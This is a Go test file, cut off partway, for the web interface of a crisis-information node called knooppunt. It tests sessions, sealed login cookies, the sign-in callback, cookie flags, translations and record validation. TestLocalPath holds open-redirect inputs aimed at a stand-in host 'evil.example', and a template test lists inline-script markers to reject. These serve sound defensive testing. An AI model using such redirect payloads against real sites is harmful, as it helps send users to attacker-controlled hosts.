package ui

import (
	"bytes"
	"context"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"log/slog"
	"maps"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/spiffe/go-spiffe/v2/spiffeid"
	"google.golang.org/genproto/googleapis/rpc/errdetails"
	"google.golang.org/grpc"
	"google.golang.org/grpc/codes"
	"google.golang.org/grpc/status"
	"google.golang.org/protobuf/proto"
	"google.golang.org/protobuf/types/known/durationpb"
	"google.golang.org/protobuf/types/known/timestamppb"

	"github.com/knooppunt/knooppunt/federation/search"
	"github.com/knooppunt/knooppunt/node/api"
	"github.com/knooppunt/knooppunt/node/config"
	"github.com/knooppunt/knooppunt/node/db"
	"github.com/knooppunt/knooppunt/node/record"
	"github.com/knooppunt/knooppunt/policy"
	pb "github.com/knooppunt/knooppunt/proto/knooppunt/v1"
)

// TestCatalogues: both languages have the same keys, and every key a template or the Go code
// asks for is in them, including the ones built at run time (roles, phases, states,
// classifications).
func TestCatalogues(t *testing.T) {
	cats, err := loadCatalogues()
	if err != nil {
		t.Fatal(err)
	}
	nl, en := cats["nl"].keys(), cats["en"].keys()
	if !slices.Equal(nl, en) {
		for _, k := range nl {
			if _, ok := cats["en"][k]; !ok {
				t.Errorf("en lacks %s", k)
			}
		}
		for _, k := range en {
			if _, ok := cats["nl"][k]; !ok {
				t.Errorf("nl lacks %s", k)
			}
		}
	}
	used := map[string]bool{}
	for _, pattern := range []string{"templates/*.html", "*.go"} {
		files, _ := filepath.Glob(pattern)
		for _, f := range files {
			if strings.HasSuffix(f, "_test.go") {
				continue
			}
			data, err := os.ReadFile(f)
			if err != nil {
				t.Fatal(err)
			}
			for _, m := range regexp.MustCompile(`T[ (]"([a-z0-9_.]+)"`).FindAllStringSubmatch(string(data), -1) {
				used[m[1]] = true
			}
		}
	}
	for _, prefix := range []string{"role.", "phase.", "state.", "class.", "step.", "policy.state.", "policy.done.", "value.", "alertfield."} {
		delete(used, prefix)
	}
	// Keys the officers' pages build at run time: each step's texts, each policy state, and
	// the notice after each step.
	for _, key := range stepKeys {
		for _, part := range []string{"heading", "link", "submit", "effect"} {
			used["step."+key+"."+part] = true
		}
	}
	for _, st := range []string{"proposed", "approved", "rejected", "revoked", "superseded"} {
		used["policy.state."+st] = true
	}
	for _, d := range []string{"voorgesteld", stepApprove, stepReject, stepRevoke} {
		used["policy.done."+d] = true
	}
	for _, r := range []string{"reader", "editor", "officer", "admin", "replica", "peer", "local"} {
		used["role."+r] = true
	}
	for _, k := range []string{"field.id", "field.crisis", "field.region", "field.kind", "phase.cold", "phase.lukewarm", "phase.warm", "state.answered", "state.denied", "state.unreachable",
		"state.timed_out", "class.classification_unspecified", "class.public", "class.internal", "class.confidential", "class.secret"} {
		used[k] = true
	}
	// The record form's labels (recordFormFields), and each demo kind's name and description
	// (Lang.Kind, Lang.KindDescription).
	for _, f := range recordFormFields {
		used[f.Label] = true
	}
	for _, k := range fileTypes {
		used[k] = true
	}
	for _, k := range record.DemoKinds() {
		used["kind."+k.Name], used["kinddesc."+k.Name] = true, true
	}
	if len(used) < 50 {
		t.Fatalf("found only %d keys in use: the pattern no longer matches the templates", len(used))
	}
	for k := range used {
		for lang, c := range cats {
			if _, ok := c[k]; !ok {
				t.Errorf("catalogue %s lacks %q", lang, k)
			}
		}
	}
}

// TestTemplatesHoldNoTextOrInlineCode: no inline script or style (the CSP forbids them), and no
// words of their own: every text between tags comes from the catalogue.
func TestTemplatesHoldNoTextOrInlineCode(t *testing.T) {
	files, _ := filepath.Glob("templates/*.html")
	if len(files) == 0 {
		t.Fatal("no templates")
	}
	action := regexp.MustCompile(`\{\{[^}]*\}\}`)
	tag := regexp.MustCompile(`<[^>]*>`)
	for _, f := range files {
		data, _ := os.ReadFile(f)
		s := string(data)
		// A script may only be loaded from the embedded assets, empty: the CSP allows no other.
		scripts := regexp.MustCompile(`<script src="/assets/[a-z-]+\.js" defer></script>`)
		for _, bad := range []string{"<script", "<style", " style=", "onclick=", "onload=", "javascript:"} {
			if strings.Contains(scripts.ReplaceAllString(s, ""), bad) {
				t.Errorf("%s: %q: inline code is refused by the CSP", f, bad)
			}
		}
		text := tag.ReplaceAllString(action.ReplaceAllString(s, " "), " ")
		for _, w := range strings.Fields(text) {
			if strings.ContainsAny(w, "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ") {
				t.Errorf("%s: text %q outside the catalogue", f, w)
			}
		}
	}
	if _, err := parsePages(); err != nil {
		t.Fatal(err)
	}
}

func TestSessionsExpire(t *testing.T) {
	ss := newSessions()
	now := time.Unix(1_800_000_000, 0)
	ss.now = func() time.Time { return now }
	person := spiffeid.RequireFromString("spiffe://a.crisis.test/user/anna")
	id := ss.create(&session{Person: person, Expires: now.Add(time.Hour), AuthTime: now})
	if s := ss.get(id); s == nil || s.CSRF == "" || s.Person != person {
		t.Fatalf("a new session: %+v", s)
	}
	if ss.get(id+"x") != nil || ss.get("") != nil {
		t.Error("an unknown id found a session")
	}
	now = now.Add(time.Hour)
	if ss.get(id) != nil {
		t.Error("an expired session is still there")
	}
	if len(ss.byID) != 0 {
		t.Error("an expired session stays in memory")
	}
}

// TestPendingSealed: a pending sign-in comes back whole from the login cookie's value for its
// own state only, within its time, and unaltered; the value does not show what it holds, and
// opens only under the key of the server that sealed it and as a pending sign-in.
func TestPendingSealed(t *testing.T) {
	ss := newSessions()
	now := time.Unix(1_800_000_000, 0)
	ss.now = func() time.Time { return now }
	want := pending{State: "st", Nonce: "nonce-n", Verifier: "verifier-v", ReturnTo: "/zoeken?crisis=oekraine", Fresh: true, From: "from-k"}
	c := ss.begin(&pending{State: want.State, Nonce: want.Nonce, Verifier: want.Verifier, ReturnTo: want.ReturnTo, Fresh: want.Fresh, From: want.From})
	p := ss.finish(c, "st")
	if p == nil || !p.Expires.Equal(now.Add(pendingTTL)) {
		t.Fatalf("finish: %+v, want it until %s", p, now.Add(pendingTTL))
	}
	// Times compare by Equal: the sealed one comes back in another location.
	if p.Expires = want.Expires; *p != want {
		t.Fatalf("finish: %+v, want %+v", p, want)
	}
	raw, err := base64.RawURLEncoding.DecodeString(c)
	if err != nil {
		t.Fatal(err)
	}
	for _, secret := range []string{"nonce-n", "verifier-v", "zoeken", "from-k"} {
		if bytes.Contains(raw, []byte(secret)) || strings.Contains(c, secret) {
			t.Errorf("the login cookie shows %q: %s", secret, c)
		}
	}
	for _, state := range []string{"", "st2", "s"} {
		if ss.finish(c, state) != nil {
			t.Errorf("a sign-in of state st was finished with state %q", state)
		}
	}
	for i := range raw {
		bad := bytes.Clone(raw)
		bad[i] ^= 1
		if ss.finish(base64.RawURLEncoding.EncodeToString(bad), "st") != nil {
			t.Fatalf("a login cookie altered at byte %d was taken", i)
		}
	}
	if ss.finish(c[:len(c)-1], "st") != nil || ss.finish("", "st") != nil || ss.finish("st", "st") != nil {
		t.Error("a cut or made-up login cookie was taken")
	}
	if newSessions().finish(c, "st") != nil {
		t.Error("another server's key opened the login cookie")
	}
	want.Expires = now.Add(pendingTTL)
	plain, _ := json.Marshal(want)
	for _, purpose := range []string{"another purpose", ""} {
		nonce := make([]byte, ss.seal.NonceSize())
		other := base64.RawURLEncoding.EncodeToString(ss.seal.Seal(nonce, nonce, plain, []byte(purpose)))
		if ss.finish(other, "st") != nil {
			t.Errorf("a value sealed for purpose %q was taken as a sign-in", purpose)
		}
	}
	now = now.Add(pendingTTL - time.Second)
	if ss.finish(c, "st") == nil {
		t.Error("a sign-in was refused within its time")
	}
	now = now.Add(time.Second)
	if ss.finish(c, "st") != nil {
		t.Error("a pending sign-in outlived its time")
	}
	// The cookie stays within what browsers keep: a longer return path returns to the start.
	long := "/zoeken?q=" + strings.Repeat("x", maxReturnTo)
	c = ss.begin(&pending{State: "st", Nonce: randomID(), Verifier: randomID(), ReturnTo: long, From: randomID()})
	if p := ss.finish(c, "st"); p == nil || p.ReturnTo != "/" {
		t.Errorf("a sign-in with a return path of %d bytes: %+v", len(long), p)
	}
	if c = ss.begin(&pending{State: randomID(), Nonce: randomID(), Verifier: randomID(), ReturnTo: long[:maxReturnTo], From: randomID()}); len(c) > 3500 {
		t.Errorf("a login cookie of %d bytes", len(c))
	}
}

// TestCallbackRefusesSignIn: the provider's answer is refused, with the page that asks to sign
// in again, when the browser has no sign-in, when its login cookie was altered or its time is
// up, and when the state is not the one the cookie holds; the login cookie goes each time. The
// cookie and state of the sign-in itself pass (and get as far as the provider, down here).
func TestCallbackRefusesSignIn(t *testing.T) {
	s, err := New(Config{UI: config.UI{Listen: "127.0.0.1:8080", PublicURL: "http://127.0.0.1:8080", SessionTTL: time.Hour,
		OIDC: config.OIDC{Issuer: "http://127.0.0.1:1", ClientID: "k", Claim: "preferred_username"}},
		Org: "a.crisis.test", Name: "a", Resolve: func(spiffeid.ID) (api.Caller, error) { return api.Caller{}, nil }})
	if err != nil {
		t.Fatal(err)
	}
	now := time.Now()
	s.sessions.now = func() time.Time { return now }
	c := s.sessions.begin(&pending{State: "st", Nonce: randomID(), Verifier: randomID(), ReturnTo: "/"})
	raw, _ := base64.RawURLEncoding.DecodeString(c)
	raw[len(raw)/2] ^= 1
	altered := base64.RawURLEncoding.EncodeToString(raw)
	callback := func(cookie, state string) (int, string) {
		t.Helper()
		r := httptest.NewRequest("GET", "/auth/callback?code=c&state="+state, nil)
		if cookie != "" {
			r.AddCookie(&http.Cookie{Name: s.loginCookie(), Value: cookie})
		}
		w := httptest.NewRecorder()
		s.ServeHTTP(w, r)
		cleared := false
		for _, k := range w.Result().Cookies() {
			cleared = cleared || k.Name == s.loginCookie() && k.MaxAge < 0
		}
		if !cleared {
			t.Errorf("callback with state %q: the login cookie stays", state)
		}
		return w.Code, w.Body.String()
	}
	again := "De aanmelding is niet gelukt of verlopen. Meld u opnieuw aan."
	for _, tc := range []struct{ name, cookie, state string }{
		{"no login cookie", "", "st"},
		{"another state", c, "st2"},
		{"no state", c, ""},
		{"an altered cookie", altered, "st"},
		{"the state as cookie", "st", "st"},
	} {
		if code, page := callback(tc.cookie, tc.state); code != http.StatusBadRequest || !strings.Contains(page, again) {
			t.Errorf("%s: %d, want 400 with %q\n%s", tc.name, code, again, page)
		}
	}
	if code, _ := callback(c, "st"); code != http.StatusBadGateway {
		t.Errorf("the sign-in's own cookie and state: %d, want 502 from the provider that is down", code)
	}
	now = now.Add(pendingTTL)
	if code, page := callback(c, "st"); code != http.StatusBadRequest || !strings.Contains(page, again) {
		t.Errorf("a sign-in past its time: %d, want 400 with %q\n%s", code, again, page)
	}
}

// TestSecureCookies: behind https, the session cookie is Secure and takes the __Host- prefix.
func TestSecureCookies(t *testing.T) {
	for _, tc := range []struct {
		public, name string
		secure       bool
	}{
		{"https://knooppunt.a.example", "__Host-knooppunt_sessie", true},
		// Over plain HTTP on loopback the port is in the name: cookies are per host, and
		// several nodes on one host must not share a session cookie.
		{"http://127.0.0.1:8080", "knooppunt_sessie_8080", false},
	} {
		s, err := New(Config{UI: config.UI{Listen: "127.0.0.1:8080", PublicURL: tc.public, SessionTTL: time.Hour,
			OIDC: config.OIDC{Issuer: "https://login.a.example", ClientID: "k", Claim: "preferred_username"}},
			Org: "a.crisis.test", Name: "a", Resolve: func(spiffeid.ID) (api.Caller, error) { return api.Caller{}, nil }})
		if err != nil {
			t.Fatal(err)
		}
		w := httptest.NewRecorder()
		s.setCookie(w, s.sessionCookie(), "v", time.Hour)
		c := w.Result().Cookies()[0]
		if c.Name != tc.name || c.Secure != tc.secure || !c.HttpOnly || c.SameSite != http.SameSiteLaxMode || c.Path != "/" || c.Domain != "" {
			t.Errorf("%s: cookie %s", tc.public, c.String())
		}
		r := httptest.NewRequest("GET", "/afgemeld", nil)
		w = httptest.NewRecorder()
		s.ServeHTTP(w, r)
		if hsts := w.Result().Header.Get("Strict-Transport-Security"); (hsts != "") != tc.secure {
			t.Errorf("%s: Strict-Transport-Security %q", tc.public, hsts)
		}
	}
}

func TestBodyFieldsShowWithheld(t *testing.T) {
	body := []byte(`{"municipality":"Utrecht","beds_free":14,"contact":{"a":1}}`)
	withheld := withheldFields([]string{"body.contact_phone", "body.beds_free"})
	got := bodyFields(body, withheld, nil, nil)
	want := []fieldView{{Name: "beds_free", Withheld: true}, {Name: "contact", Value: `{"a":1}`}, {Name: "contact_phone", Withheld: true}, {Name: "municipality", Value: "Utrecht"}}
	if !slices.Equal(got, want) {
		t.Errorf("bodyFields:\n got %+v\nwant %+v", got, want)
	}
	// In the order of the kind's schema, then the fields it does not declare by name.
	kinds, err := record.NewKinds(record.DemoKinds())
	if err != nil {
		t.Fatal(err)
	}
	got = bodyFields(body, withheld, kinds.Get("shelter.capacity").Fields(), nil)
	want = []fieldView{{Name: "municipality", Value: "Utrecht"}, {Name: "beds_free", Withheld: true}, {Name: "contact_phone", Withheld: true}, {Name: "contact", Value: `{"a":1}`}}
	if !slices.Equal(got, want) {
		t.Errorf("bodyFields in the schema's order:\n got %+v\nwant %+v", got, want)
	}
}

// TestLocalPath: a return address stays on this site as a browser follows it, after
// http.Redirect has cleaned it: /./\\host became /\\host, which a browser reads as //host
// (review web-adversary M1).
func TestLocalPath(t *testing.T) {
	for in, want := range map[string]string{
		"/zoeken?kind=sitrep": "/zoeken?kind=sitrep", "": "/", "https://evil.example/": "/", "//evil.example/x": "/",
		"/\\evil.example": "/", "zoeken": "/", "/./\\evil.example/x": "/", "/x/../\\evil.example": "/",
		"/./%5Cevil.example/x": "/", "/x/..//evil.example": "/evil.example", "/.//evil.example": "/evil.example",
		"/beleid/": "/beleid/", "/a/./b/../c?q=1 2": "/a/c?q=1 2", "/x\t/y": "/", "/x%0a": "/",
		"/record?id=a%2Fb&origin=ncc": "/record?id=a%2Fb&origin=ncc",
	} {
		got := localPath(in)
		if got != want {
			t.Errorf("localPath(%q) = %q, want %q", in, got, want)
		}
		w := httptest.NewRecorder()
		http.Redirect(w, httptest.NewRequest("GET", "/taal", nil), got, http.StatusSeeOther)
		if loc := w.Header().Get("Location"); !strings.HasPrefix(loc, "/") || strings.HasPrefix(loc, "//") || strings.HasPrefix(loc, "/\\") {
			t.Errorf("localPath(%q) = %q, which redirects to %q: another host", in, got, loc)
		}
	}
}

// TestRequireRecent: a sign-in older than MaxOfficerAge sends a GET to sign in again, forcing
// the provider to authenticate anew (a POST, whose form is kept, is TestStaleSignInSignsInAgain's).
func TestRequireRecent(t *testing.T) {
	s, l := dutchServer(t)
	for _, tc := range []struct {
		method string
		age    time.Duration
		ok     bool
		code   int
		loc    string
	}{
		{"GET", time.Minute, true, 200, ""},
		{"GET", MaxOfficerAge + time.Second, false, http.StatusSeeOther, "/aanmelden?opnieuw=1&terug=%2Fbeleid%3Fid%3Dx"},
		{"GET", 24 * time.Hour, false, http.StatusSeeOther, "/aanmelden?opnieuw=1&terug=%2Fbeleid%3Fid%3Dx"},
	} {
		w := httptest.NewRecorder()
		r := &request{Request: httptest.NewRequest(tc.method, "/beleid?id=x", nil), L: l,
			Session: &session{AuthTime: time.Now().Add(-tc.age), CSRF: "c"}}
		if got := s.requireRecent(w, r, MaxOfficerAge, ""); got != tc.ok || w.Code != tc.code || w.Header().Get("Location") != tc.loc {
			t.Errorf("%s, signed in %s ago: %v %d %q; want %v %d %q", tc.method, tc.age, got, w.Code, w.Header().Get("Location"), tc.ok, tc.code, tc.loc)
		}
	}
}

// TestAlertInThePagesLanguage: an alert with a Dutch and an English info block shows, on the
// picture and on its record's page, the block of the page's language.
func TestAlertInThePagesLanguage(t *testing.T) {
	cats, err := loadCatalogues()
	if err != nil {
		t.Fatal(err)
	}
	body := []byte(`{"identifier":"x","sender":"s","sent":"2026-12-04T08:00:00+01:00","status":"Actual","msgType":"Alert","scope":"Public",
		"info":[{"language":"nl-NL","category":["Safety"],"event":"Drukte","urgency":"Expected","severity":"Severe","certainty":"Likely","headline":"Drukte bij de opvang"},
		{"language":"en-US","category":["Safety"],"event":"Crowding","urgency":"Expected","severity":"Severe","certainty":"Likely","headline":"Crowding at the shelter"}]}`)
	e := &pb.PictureEntry{Kind: "alert", Region: "VR09", Source: "a", Record: &pb.Record{Id: "x", Kind: "alert", Body: body}}
	said := map[string]string{"nl": "Nieuwe waarschuwing: Drukte bij de opvang, VR09 Utrecht", "en": "New alert: Crowding at the shelter, VR09 Utrecht"}
	for lang, want := range map[string]string{"nl": "Drukte bij de opvang", "en": "Crowding at the shelter"} {
		l := &Lang{Code: lang, cat: cats[lang]}
		v, ok, _ := activeAlert(l, e, time.Now(), "/")
		if !ok || v.Title != want {
			t.Errorf("%s picture: alert %q (%v), want %q", lang, v.Title, ok, want)
		}
		// What the live picture says when it comes: the title, and the region it does not name.
		if got := v.Said(l); got != said[lang] {
			t.Errorf("%s picture: a new alert is said %q, want %q", lang, got, said[lang])
		}
		fields, _ := alertRecordFields(l, body, nil)
		if len(fields) == 0 || fields[0].Value != want {
			t.Errorf("%s record page: first field %v, want %q", lang, fields, want)
		}
	}
}

// TestChart: one bar per region, the national total left out, each labelled with its region as
// the table names it, the longest value the full length.
func TestChart(t *testing.T) {
	cats, err := loadCatalogues()
	if err != nil {
		t.Fatal(err)
	}
	nl := &Lang{Code: "nl", cat: cats["nl"]}
	rows := []capacityRow{{Region: "VR09", Cells: []string{"0"}}, {Region: "VR17", Cells: []string{"50"}},
		{Region: "VR06", Cells: []string{""}}, {Region: "NL", National: true, Cells: []string{"50"}}}
	c := newChart("g", "t", rows, 0, nl.Region)
	if len(c.Bars) != 3 || c.Height != 3*chartRow+8 {
		t.Fatalf("chart: %+v", c)
	}
	for i, want := range []struct {
		label string
		width float64
	}{{"VR09 Utrecht", 0}, {"VR17 Rotterdam-Rijnmond", chartLength}, {"VR06 Noord- en Oost-Gelderland", 0}} {
		if b := c.Bars[i]; b.Label != want.label || b.Width != want.width || b.Y != float64(i*chartRow+4) {
			t.Errorf("bar %d: %+v, want %q of width %g", i, b, want.label, want.width)
		}
	}
	// The box holds the label column, the bars and room for a value after them.
	if c.Width != chartWidth || c.BarX != chartLabel || c.Length != chartLength || c.ValueX != chartLabel+chartLength+8 || chartWidth-c.ValueX < 50 {
		t.Errorf("geometry: %+v", c)
	}
	if empty := newChart("g", "t", nil, 0, nl.Region); len(empty.Bars) != 0 || empty.Height != 8 {
		t.Errorf("an empty chart: %+v", empty)
	}
}

// TestFollowerLinksToTheLeader: on a follower replica, a step's page does not offer a form
// that cannot succeed: it says that steps are taken on the leader, and links to the leader's
// web interface at the same page when it is known.
func TestFollowerLinksToTheLeader(t *testing.T) {
	for _, tc := range []struct {
		web, link string
	}{
		{"https://knooppunt-2.a.example/", `href="https://knooppunt-2.a.example/beleid/stap?stap=goedkeuren&amp;id=x%401"`},
		{"", "raft.servers[].ui"},
	} {
		s, err := New(Config{UI: config.UI{Listen: "127.0.0.1:8080", SessionTTL: time.Hour,
			OIDC: config.OIDC{Issuer: "https://login.a.example", ClientID: "k", Claim: "preferred_username"}},
			Org: "a.crisis.test", Name: "a",
			Resolve: func(id spiffeid.ID) (api.Caller, error) {
				return api.Caller{ID: id, Roles: []api.Role{api.Officer}}, nil
			},
			Leader: func() (bool, string) { return false, tc.web }})
		if err != nil {
			t.Fatal(err)
		}
		person := spiffeid.RequireFromString("spiffe://a.crisis.test/user/olga")
		id := s.sessions.create(&session{Person: person, Name: "olga", AuthTime: time.Now(), Expires: time.Now().Add(time.Hour)})
		r := httptest.NewRequest("GET", "/beleid/stap?stap=goedkeuren&id=x%401", nil)
		r.AddCookie(&http.Cookie{Name: s.sessionCookie(), Value: id})
		w := httptest.NewRecorder()
		s.ServeHTTP(w, r)
		if body := w.Body.String(); w.Code != http.StatusConflict || !strings.Contains(body, tc.link) || strings.Contains(body, `id="bevestigen"`) {
			t.Errorf("leader at %q: %d, want 409 with %q and no form:\n%s", tc.web, w.Code, tc.link, body)
		}
	}
}

// TestSnippetParts: a snippet's «marks» become the parts the template marks; the rest is text,
// whatever it holds.
func TestSnippetParts(t *testing.T) {
	for snippet, want := range map[string]string{
		"":                               "",
		"geen treffer":                   "geen treffer",
		"«Regio»naal «beeld» VR Utrecht": "[Regio]naal [beeld] VR Utrecht",
		"…de <b>«vergunning»</b> «":      "…de <b>[vergunning]</b> «",
		"«open":                          "«open",
	} {
		var b strings.Builder
		for _, p := range snippetParts(snippet) {
			if p.Match {
				b.WriteString("[" + p.Text + "]")
			} else {
				b.WriteString(p.Text)
			}
		}
		if b.String() != want {
			t.Errorf("snippetParts(%q) = %q, want %q", snippet, b.String(), want)
		}
	}
}

// TestFieldLabeler: a field goes by the title its kind's schema gives it, else by its name in
// the page's language for a built-in kind's field, else by its own name.
func TestFieldLabeler(t *testing.T) {
	cats, err := loadCatalogues()
	if err != nil {
		t.Fatal(err)
	}
	kind := &record.Kind{Name: "water.level", Schema: []byte(`{"type":"object","properties":{"level_cm":{"type":"integer","title":"Waterstand (cm)"},"question":{"type":"string"},"gauge":{"type":"string"}}}`)}
	for lang, want := range map[string][]string{"nl": {"Waterstand (cm)", "Vraag", "gauge"}, "en": {"Waterstand (cm)", "Question", "gauge"}} {
		label := fieldLabeler(&Lang{Code: lang, cat: cats[lang]}, kind)
		if got := []string{label("level_cm"), label("question"), label("gauge")}; !slices.Equal(got, want) {
			t.Errorf("%s: %q, want %q", lang, got, want)
		}
	}
	if got := fieldLabeler(&Lang{Code: "nl", cat: cats["nl"]}, nil)("beds_free"); got != "Vrije opvangplaatsen" {
		t.Errorf("a field of no known kind: %q", got)
	}
}

// TestKindAndRegionNames: a kind goes by the title its schema gives it, else by its name in the
// page's language for a built-in kind, else by its own name; a built-in kind's description is
// said in the page's language; a safety region by its code and name.
func TestKindAndRegionNames(t *testing.T) {
	cats, err := loadCatalogues()
	if err != nil {
		t.Fatal(err)
	}
	kinds, err := record.NewKinds(append(record.DemoKinds(),
		record.Kind{Name: "water.level", Description: "A gauge's level.", Schema: []byte(`{"title":"Waterstand","type":"object"}`)},
		record.Kind{Name: "road.closure", Description: "A closed road."}))
	if err != nil {
		t.Fatal(err)
	}
	titles := kindTitles(kinds)
	for lang, want := range map[string][]string{"nl": {"Opvangcapaciteit", "Vraag en antwoord", "Waterstand", "road.closure"}, "en": {"Shelter capacity", "Question and answer", "Waterstand", "road.closure"}} {
		l := &Lang{Code: lang, cat: cats[lang], titles: titles}
		if got := []string{l.Kind("shelter.capacity"), l.Kind("qa"), l.Kind("water.level"), l.Kind("road.closure")}; !slices.Equal(got, want) {
			t.Errorf("%s: %q, want %q", lang, got, want)
		}
	}
	nl := &Lang{Code: "nl", cat: cats["nl"], titles: titles}
	if got := nl.KindDescription(kinds.Get("shelter.capacity")); got != "Opvangplaatsen van één gemeente: totaal, vrij, en wie te bellen." {
		t.Errorf("a built-in kind's description in Dutch: %q", got)
	}
	if got := nl.KindDescription(kinds.Get("road.closure")); got != "A closed road." {
		t.Errorf("a declared kind's description: %q, want its own", got)
	}
	en := &Lang{Code: "en", cat: cats["en"]}
	if got := []string{nl.Region("VR09"), nl.Region("NL"), en.Region("NL"), nl.Region("VR99")}; !slices.Equal(got, []string{"VR09 Utrecht", "NL (heel Nederland)", "NL (the whole country)", "VR99"}) {
		t.Errorf("regions: %q", got)
	}
}

// TestHitFigures: a result's figures are its kind's summed fields that its body holds, by the
// picture's names; one the source withheld is not there to show.
func TestHitFigures(t *testing.T) {
	cats, err := loadCatalogues()
	if err != nil {
		t.Fatal(err)
	}
	kinds, err := record.NewKinds(record.DemoKinds())
	if err != nil {
		t.Fatal(err)
	}
	nl := &Lang{Code: "nl", cat: cats["nl"]}
	shelter := kinds.Get("shelter.capacity")
	got := hitFigures(nl, shelter, fieldLabeler(nl, shelter), []byte(`{"municipality":"Utrecht","beds_total":120.5,"beds_free":14}`))
	if want := []figureView{{"Opvangplaatsen totaal", "120.5"}, {"Vrije opvangplaatsen", "14"}}; !slices.Equal(got, want) {
		t.Errorf("figures %v, want %v", got, want)
	}
	got = hitFigures(nl, shelter, fieldLabeler(nl, shelter), []byte(`{"municipality":"Utrecht","beds_total":120,"beds_free":"veel"}`))
	if want := []figureView{{"Opvangplaatsen totaal", "120"}}; !slices.Equal(got, want) {
		t.Errorf("figures with beds_free withheld or not a number: %v, want %v", got, want)
	}
	if got := hitFigures(nl, kinds.Get("sitrep"), fieldLabeler(nl, kinds.Get("sitrep")), []byte(`{"title":"x","count":3}`)); got != nil {
		t.Errorf("a sitrep's figures: %v, want none", got)
	}
}

// TestRecordProblems: every place a body breaks its kind's schema is said at its field, in the
// page's language (what the form has no words for as the schema checker says it), and so are an
// id, crisis, region or kind the node would refuse.
func TestRecordProblems(t *testing.T) {
	cats, err := loadCatalogues()
	if err != nil {
		t.Fatal(err)
	}
	kinds, err := record.NewKinds([]record.Kind{{Name: "water.level", Schema: []byte(`{"type":"object","required":["gauge","level_cm"],
		"properties":{"gauge":{"type":"string","minLength":3,"maxLength":8},"level_cm":{"type":"integer","maximum":2000},
		"ratio":{"type":"number","exclusiveMinimum":0.5},"trend":{"enum":["up","down"]},"code":{"type":"string","pattern":"^[A-Z]+$"},
		"items":{"type":"array","maxItems":1}}}`)}})
	if err != nil {
		t.Fatal(err)
	}
	k := kinds.Get("water.level")
	for _, c := range []struct {
		lang, body string
		want       map[string]string
	}{
		{"nl", `{"gauge":"lobith-oost","level_cm":2500,"ratio":0.5,"trend":"flat","code":"ab"}`, map[string]string{
			"body.gauge": "gebruik hoogstens 8 tekens (nu 11)", "body.level_cm": "vul een waarde van hoogstens 2000 in",
			"body.ratio": "vul een waarde groter dan 0.5 in", "body.trend": "kies een van: up, down",
			"body.code": "dit heeft niet de vorm die hier hoort (^[A-Z]+$)"}},
		{"en", `{"gauge":"lo","level_cm":"hoog"}`, map[string]string{"body.gauge": "enter at least 3 characters", "body.level_cm": "enter a whole number, such as 12"}},
		{"nl", `{"ratio":"veel","items":[1,2]}`, map[string]string{"body.gauge": "vul dit veld in", "body.level_cm": "vul dit veld in",
			"body.ratio": "vul een getal in, zoals 12 of 4,5", "body.items": "maxItems: got 2, want 1"}},
		{"nl", `{"gauge":"lobith","level_cm":300}`, map[string]string{}},
	} {
		v := &recordFormView{Errors: map[string]string{}, Fields: bodyFieldsOf(k)}
		rec := &pb.Record{Id: "lobith-1", Kind: "water.level", Crisis: "hoogwater", Region: "VR08", Body: []byte(c.body)}
		for _, p := range recordProblems(&Lang{Code: c.lang, cat: cats[c.lang]}, kinds, rec) {
			v.fieldError(p.Field, p.Message)
		}
		if !maps.Equal(v.Errors, c.want) {
			t.Errorf("%s %s:\n got %q\nwant %q", c.lang, c.body, v.Errors, c.want)
		}
	}

	// The envelope, as the node checks it; a row of an upload says each field by its label.
	nl := &Lang{Code: "nl", cat: cats["nl"]}
	rec := &pb.Record{Id: "-1", Kind: "water.level", Crisis: "Hoog Water", Region: "VR99", Body: []byte(`{"gauge":"lobith"}`)}
	got := inWords(nl, k, recordProblems(nl, kinds, rec))
	if want := "ID: dit is geen geldig ID: gebruik 1 tot 128 letters, cijfers en . _ : -, te beginnen met een letter of cijfer; " +
		"Crisis: dit is geen geldige naam van een crisis: gebruik 1 tot 64 kleine letters, cijfers en . _ -, zoals oekraine; " +
		"Regio: geen veiligheidsregio: gebruik VR01 tot en met VR25, of NL voor het hele land; level_cm: vul dit veld in"; got != want {
		t.Errorf("in words:\n got %q\nwant %q", got, want)
	}
	rec = &pb.Record{Kind: "water.levels", Crisis: "hoogwater", Region: "NL"}
	if got, want := inWords(nl, nil, recordProblems(nl, kinds, rec)), "Soort: onbekende soort: gebruik een van water.level"; got != want {
		t.Errorf("an unknown kind: %q, want %q", got, want)
	}
	if p := recordProblems(nl, kinds, &pb.Record{Kind: "water.level", Crisis: "hoogwater", Region: "NL", Body: []byte(`{"gauge":"lobith","level_cm":3}`)}); len(p) != 0 {
		t.Errorf("a record the node takes: %v", p)
	}
}

// peersConn stands for the node's services: PeerService lists peers, or fails with err;
// PolicyService has one policy; anything else is unimplemented, as a page that asks what it
// may do without would find it.
type peersConn struct {
	peers   []*pb.PeerInfo
	err     error
	picture *pb.PictureResponse
}

func (c peersConn) Invoke(_ context.Context, method string, _, reply any, _ ...grpc.CallOption) error {
	switch method {
	case "/knooppunt.v1.PeerService/List":
		if c.err != nil {
			return c.err
		}
		proto.Merge(reply.(proto.Message), &pb.ListPeersResponse{Peers: c.peers})
	case "/knooppunt.v1.SearchService/Picture":
		proto.Merge(reply.(proto.Message), c.picture)
	case "/knooppunt.v1.PhaseService/List":
		if c.picture != nil {
			proto.Merge(reply.(proto.Message), &pb.ListPhasesResponse{Phases: []*pb.PhaseInfo{{Crisis: c.picture.Crisis, Phase: "warm"}}})
		}
	case "/knooppunt.v1.ExerciseService/List":
		// None: the picture page lists them.
	case "/knooppunt.v1.PolicyService/Get":
		proto.Merge(reply.(proto.Message), &pb.PolicyInfo{Id: "x@1", Name: "x", Version: 1, State: "approved", Source: []byte("name: x\n")})
	default:
		return status.Error(codes.Unimplemented, method)
	}
	return nil
}

func (c peersConn) NewStream(_ context.Context, _ *grpc.StreamDesc, method string, _ ...grpc.CallOption) (grpc.ClientStream, error) {
	return nil, status.Error(codes.Unimplemented, method)
}

// TestRecipientChoices: the four forms with a recipient field suggest the node's active
// peers, each by its name (by its trust domain when another peer has the same name), with the
// name it gave itself, when another, and its trust domain,
// and no group, which preview and explain would refuse. When PeerService fails, each page
// still works, without suggestions, and the failure is logged.
func TestRecipientChoices(t *testing.T) {
	peers := []*pb.PeerInfo{
		{Name: "coa", TrustDomain: "coa.crisis.test", OrgName: "coa", Groups: []string{"all"}, Active: true},
